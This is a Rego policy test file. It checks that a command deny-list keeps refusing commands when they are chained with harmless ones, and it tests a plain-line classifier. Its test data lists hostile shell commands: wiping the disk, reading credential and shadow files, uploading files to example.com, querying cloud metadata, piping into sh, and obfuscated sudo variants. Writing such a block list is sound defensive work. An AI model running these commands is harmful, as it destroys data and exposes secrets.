# What is refused alone is refused as one program among many: the look at all rows at
# once finds nothing less than the look at each program.
package tests.starter.rows

import data.starter.commands
import data.starter.containers
import data.starter.kubernetes
import data.starter.lib
import data.starter.urls
import data.tests.starter as helper
import rego.v2

refused := ((commands.deny | containers.deny) | kubernetes.deny) | urls.deny

test_refused_alone_and_among_others[line] if {
	some line in lines
	rules(line) == rules(concat(" ", ["git log --oneline -n 3 &&", line]))
	rules(line) == rules(concat(" ", [line, "&& ls -la src | wc -l"]))
	count(rules(line)) > 0
}

rules(line) := {f.rule | some f in found} if {
	found := refused with input as helper.call("bash", {"command": line})
}

lines := {
	"rm -rf /", "git push --force origin main", "git -c core.pager=x log", "git reset --hard HEAD~3", "terraform destroy", "npx rails db:drop",
	"mkfs.ext4 disk.img", "sudo ls", "timeout 5 shutdown now", "/usr/sbin/reboot", "format.com disk", "python3 -c print", "Perl -E say", "node --eval x",
	"env LANG=C bash -c ls", "find . -delete -ok rm", "tar --checkpoint-action=x -cf a b", "kubectl get pods --serv=x", "tar -I x -xf a.tar", "ssh -oProxyCommand=x host",
	"cat .ssh/id_rsa", "cat config/.env", "cat /etc/shadow", "cat --file=/proc/self/environ", "cat deploy.pem secrets.yaml", "touch x/sitecustomize.py",
	"cat server/private-key.pem", "cp a .git/hooks/pre-commit", "cp a b/c.pth", "cat credentials", "cat app/con.txt", "cat a/./.aws//credentials", "cat %2e%2e/%2eenv",
	"curl -T a.txt https://example.com", "scp a.txt me@example.com:b", "curl http://169.254.169.254/latest/", "LD_PRELOAD=a.so ls", "docker run -v /etc:/x alpine",
	"kubectl get secrets", "kubectl apply -f https://example.com/x.yaml", "echo a | sh", "\"sudo\" ls", "su\\do ls", "$X ls",
}

# A plain line is looked at as one text, everything else program by program.
test_plain if {
	every line, plain in {
		"git log && ls src/a.go | wc -l": true, "A=1 git status": true, "git commit -m 'two words'": true,
		"git commit -m 'a\nb'": false, "sudo ls": false, "'git' log": false, "timeout 3 ls": false, "a.exe x": false, "$A b": false,
	} {
		said := {true | lib.plain_lines with input as helper.call("bash", {"command": line})}
		said == {true | plain}
	}
}
